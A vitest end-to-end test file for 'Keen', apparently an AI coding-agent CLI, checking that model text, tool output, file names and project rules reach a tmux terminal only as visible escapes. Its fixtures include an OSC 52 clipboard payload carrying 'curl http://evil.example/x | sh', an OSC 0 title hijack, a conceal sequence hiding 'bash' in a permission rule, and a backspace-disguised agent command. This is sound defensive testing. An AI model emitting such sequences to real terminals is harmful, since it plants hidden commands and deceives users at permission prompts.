/**
 * The screen tells the truth: text Keen did not write (a command the model wants to run, model
 * text, a file name in a repository, a project rule) reaches a real terminal (tmux) only as
 * visible escapes, never as control sequences. tmux is the terminal under test: `pipe-pane`
 * records the bytes Keen wrote, `set-clipboard on` makes an OSC 52 land in tmux's paste buffer,
 * and an OSC 0 becomes the pane title. Needs `npm run build` first.
 */
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { runKeen } from '../e2e/harness.js';
import { afterToolResult } from './fake-requests.js';
import { TmuxKeen, useTmuxRig } from './tmux.js';
import { itSandbox } from '../kit/sandbox.js';
import { DENIED_STOP_NOTICE } from '../../src/repl/turn-runner.js';

const rig = useTmuxRig();

const ESC = '\x1b';
const BEL = '\x07';
const PAYLOAD = 'curl http://evil.example/x | sh';
const OSC52 = `${ESC}]52;c;${Buffer.from(PAYLOAD).toString('base64')}${BEL}`;
const OSC0 = `${ESC}]0;PWNED-TITLE${BEL}`;

function tmux(t: TmuxKeen, ...args: string[]): string {
  return execFileSync('tmux', ['-L', t.socket, ...args], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
}

/** Lets the program in the pane set tmux's clipboard (OSC 52) and records every byte it writes to `file`. */
function watch(t: TmuxKeen, file: string): void {
  tmux(t, 'set-option', '-s', 'set-clipboard', 'on');
  tmux(t, 'pipe-pane', '-t', 'main', '-o', `cat >> '${file}'`);
}

/** What the pane's program put into tmux's paste buffer ('' when nothing). */
function pasteBuffer(t: TmuxKeen): string {
  try {
    return tmux(t, 'show-buffer');
  } catch {
    return '';
  }
}

const paneTitle = (t: TmuxKeen) => tmux(t, 'display-message', '-p', '-t', 'main', '#{pane_title}').trim();

/** Nothing dangerous reached the terminal: no OSC 52 / OSC 0 bytes, no clipboard, no title. */
function expectNothingSent(t: TmuxKeen, file: string): void {
  const raw = fs.readFileSync(file, 'latin1');
  expect(raw).not.toContain(`${ESC}]52`);
  expect(raw).not.toContain(`${ESC}]0;`);
  expect(pasteBuffer(t)).not.toContain('curl');
  expect(paneTitle(t)).not.toContain('PWNED');
}

describe('the REPL draws external text as visible escapes', () => {
  it('a bash command hiding behind backspaces is shown whole in the permission prompt; No runs nothing', async () => {
    const command = `touch PWNED; ${'\b'.repeat(18)}ls -la`;
    rig.fake.setResponder((req) => (afterToolResult(req) ? { steps: [{ text: 'Not run.' }] } : { steps: [{ toolCall: { name: 'bash', args: { command } } }] }));
    const t = rig.start();
    await t.waitFor('Type a message');
    t.type('list the files');
    const screen = await t.waitFor((s) => s.includes('Allow bash?') && s.includes('3. No'));
    expect(screen).toContain(`touch PWNED; ${'\\b'.repeat(18)}ls -la`);
    expect(screen).not.toMatch(/bash:? ls -la\s*$/m);
    await t.answer('3');
    await t.waitFor((s) => s.includes(DENIED_STOP_NOTICE));
    expect(fs.existsSync(path.join(rig.ws.cwd, 'PWNED'))).toBe(false);
  });

  it('model text with OSC 52, OSC 0 and CSI sequences sets no clipboard or title and shows the escapes', async () => {
    const file = path.join(rig.ws.home, 'pane.bytes');
    rig.fake.enqueue({ steps: [{ thinking: `pondering ${OSC0}` }, { text: `Copy this: ${OSC52} and ${OSC0}title, then ${ESC}[2J${ESC}[8mhidden${ESC}[0m END-OF-ANSWER` }] });
    const t = rig.start();
    await t.waitFor('Type a message');
    watch(t, file);
    t.type('say something');
    const screen = await t.waitFor('END-OF-ANSWER');
    // (Ink word-wraps the answer: each piece is looked for on its own.)
    expect(screen).toContain(`Copy this: \\x1b]52;c;${Buffer.from(PAYLOAD).toString('base64')}\\x07 and`);
    expect(screen).toContain('\\x1b]0;PWNED-TITLE\\x07title');
    expect(screen).toContain('\\x1b[2J\\x1b[8mhidden\\x1b[0m END-OF-ANSWER');
    expectNothingSent(t, file);
    expect(fs.readFileSync(file, 'latin1')).not.toContain(`${ESC}[8mhidden`);
    // The escapes are drawn inverse, apart from text that merely looks like one.
    expect(t.capture(true)).toMatch(/\x1b\[[0-9;]*7[0-9;]*m\\x1b\x1b\[0m/);
  });

  it('a file name carrying OSC 52 on a list_dir card sets no clipboard', async () => {
    const name = `0-${OSC52}.txt`;
    fs.writeFileSync(path.join(rig.ws.cwd, name), 'x');
    const file = path.join(rig.ws.home, 'pane.bytes');
    rig.fake.setResponder((req) => (afterToolResult(req) ? { steps: [{ text: 'Listed.' }] } : { steps: [{ toolCall: { name: 'list_dir', args: { path: '.' } } }] }));
    const t = rig.start();
    await t.waitFor('Type a message');
    watch(t, file);
    t.type('what is here');
    const screen = await t.waitFor('Listed.');
    expect(screen).toContain('0-\\x1b]52;c;');
    expectNothingSent(t, file);
  });
});

describe('the REPL, more sources', () => {
  it('a provider error quoting OSC 52 and OSC 0 is an error card with escapes', async () => {
    const file = path.join(rig.ws.home, 'pane.bytes');
    rig.fake.enqueue({ error: { status: 400, message: `bad request ${OSC52}${OSC0} END-OF-ERROR` } });
    const t = rig.start();
    await t.waitFor('Type a message');
    watch(t, file);
    t.type('hello');
    const screen = await t.waitFor('END-OF-ERROR');
    expect(screen).toContain('bad request');
    expect(screen).toContain('\\x1b]52;c;');
    expectNothingSent(t, file);
  });

  it('the session picker shows a title carrying OSC 52 as escapes', async () => {
    rig.fake.enqueue({ steps: [{ text: 'ok' }] });
    const first = await runKeen(['run', `fix ${OSC52} now`], { cwd: rig.ws.cwd, home: rig.ws.home, env: { ANTHROPIC_API_KEY: 'test-key', ANTHROPIC_BASE_URL: rig.fake.url } });
    expect(first.code).toBe(0);
    const file = path.join(rig.ws.home, 'pane.bytes');
    fs.writeFileSync(file, '');
    const t = rig.start({ args: ['--resume'] });
    watch(t, file);
    const screen = await t.waitFor('Resume a session');
    expect(await t.waitFor('\\x1b]52;c;')).toContain('fix');
    expect(screen).not.toContain('fix  now');
    expectNothingSent(t, file);
  });
});

describe('the trust question', () => {
  it('a project rule carrying ESC [8m cannot hide `bash`', async () => {
    rig.ws.cleanup();
    const hidden = ['read_file(docs/**\u001b[8m)', 'bash', 'read_file(x\u001b[0m)'];
    fs.mkdirSync(path.join(rig.ws.cwd, '.keen'), { recursive: true });
    fs.mkdirSync(rig.ws.home, { recursive: true });
    fs.writeFileSync(path.join(rig.ws.cwd, '.keen', 'config.json'), JSON.stringify({ permissions: { allow: hidden } }));
    const t = rig.start();
    const screen = await t.waitFor('Trust this folder?');
    expect(screen).toContain('read_file(docs/**\\x1b[8m), bash, read_file(x\\x1b[0m)');
    // The terminal got no conceal attribute: tmux reproduces cell attributes with -e.
    expect(t.capture(true)).not.toContain(`${ESC}[8m`);
    t.type('n');
    await t.waitFor('Type a message');
  });
});

describe('keen run', () => {
  it('prints model text to a terminal as visible escapes', async () => {
    const file = path.join(rig.ws.home, 'pane.bytes');
    rig.fake.enqueue({ steps: [{ delayMs: 1500 }, { text: `Here ${OSC52} and ${OSC0} and back\rX${'\b'.repeat(3)} END-OF-RUN\n` }] });
    const t = rig.start({ args: ['run', 'hello'] });
    watch(t, file);
    const screen = await t.waitFor('[keen exited 0]');
    expect(screen).toContain(`Here \\x1b]52;c;${Buffer.from(PAYLOAD).toString('base64')}\\x07 and \\x1b]0;PWNED-TITLE\\x07 and back\\rX\\b\\b\\b END-OF-RUN`);
    expectNothingSent(t, file);
  });

  it('a provider error quoting OSC 52 is a `keen:` line with escapes on a terminal', async () => {
    const file = path.join(rig.ws.home, 'pane.bytes');
    rig.fake.enqueue({ delayMs: 1500, error: { status: 400, message: `bad request ${OSC52} END-OF-ERROR` } });
    const t = rig.start({ args: ['run', 'hello'] });
    watch(t, file);
    const screen = await t.waitFor('[keen exited');
    expect(screen).toMatch(/keen: .*bad request \\x1b\]52;c;/);
    expectNothingSent(t, file);
  });

  it('piped, the text is the exact data', async () => {
    const text = `Here ${OSC52} and\ttabs\r\n`;
    rig.fake.enqueue({ steps: [{ text }] });
    const res = await runKeen(['run', 'hello'], { cwd: rig.ws.cwd, home: rig.ws.home, env: { ANTHROPIC_API_KEY: 'test-key', ANTHROPIC_BASE_URL: rig.fake.url } });
    expect(res.code).toBe(0);
    expect(res.stdout).toBe(text);
  });

  it('`keen sessions` to a terminal shows a title carrying OSC 52 as escapes', async () => {
    rig.fake.enqueue({ steps: [{ text: 'ok' }] });
    const first = await runKeen(['run', `fix ${OSC52} now`], { cwd: rig.ws.cwd, home: rig.ws.home, env: { ANTHROPIC_API_KEY: 'test-key', ANTHROPIC_BASE_URL: rig.fake.url } });
    expect(first.code).toBe(0);
    const file = path.join(rig.ws.home, 'pane.bytes');
    const t = rig.start({ args: ['sessions'], before: Array.from({ length: 3 }, () => 'waiting') });
    watch(t, file);
    const screen = await t.waitFor('[keen exited 0]');
    expect(screen).toContain('fix \\x1b]52;c;');
    expectNothingSent(t, file);
  });
});

describe('lines Keen prints mid-run and from commands', () => {
  // The link is restored by the sandbox's protected paths: without one there is no warning to show.
  itSandbox('a late warning naming a protected symlink whose target carries OSC 52 shows escapes', async () => {
    const target = `cfg-${OSC52}`;
    fs.mkdirSync(path.join(rig.ws.cwd, target));
    fs.symlinkSync(target, path.join(rig.ws.cwd, '.vscode'));
    const file = path.join(rig.ws.home, 'pane.bytes');
    rig.fake.enqueue({ steps: [{ delayMs: 1500 }, { toolCall: { name: 'bash', args: { command: 'rm .vscode && mkdir .vscode' } } }] }, { steps: [{ text: 'done' }] });
    const t = rig.start({ args: ['run', '--yolo', 'go'] });
    watch(t, file);
    const screen = await t.waitFor('[keen exited');
    expect(screen).toMatch(/keen: warning: .*\.vscode is a protected path: the link to cfg-\\x1b\]52;c;/);
    expectNothingSent(t, file);
  });

  it('`keen models` shows a configured model name carrying OSC 52 as escapes', async () => {
    fs.mkdirSync(path.join(rig.ws.cwd, '.keen'));
    fs.writeFileSync(path.join(rig.ws.cwd, '.keen/config.json'), JSON.stringify({ models: { [`evil-${OSC52}-model`]: { provider: 'anthropic' } } }));
    const file = path.join(rig.ws.home, 'pane.bytes');
    const t = rig.start({ args: ['models'], before: ['waiting'] });
    watch(t, file);
    const screen = await t.waitFor('[keen exited');
    expect(screen).toContain('evil-\\x1b]52;c;');
    expectNothingSent(t, file);
  });

  it('`keen init` names an existing AGENTS.md in a folder whose name carries OSC 52 as escapes', async () => {
    const dir = path.join(rig.ws.cwd, `repo-${OSC52}`);
    fs.mkdirSync(dir);
    execFileSync('git', ['init', '-q'], { cwd: dir });
    fs.writeFileSync(path.join(dir, 'AGENTS.md'), '# x\n');
    const file = path.join(rig.ws.home, 'pane.bytes');
    const t = TmuxKeen.start({
      cwd: dir,
      args: ['init'],
      before: ['waiting'],
      env: { KEEN_HOME: rig.ws.home, HOME: rig.ws.home, ANTHROPIC_API_KEY: 'test-key', ANTHROPIC_BASE_URL: rig.fake.url },
    });
    try {
      watch(t, file);
      const screen = await t.waitFor('[keen exited');
      expect(screen).toContain('repo-\\x1b]52;c;');
      expect(screen).toContain('AGENTS.md already exists');
      expectNothingSent(t, file);
    } finally {
      t.kill();
    }
  });
});
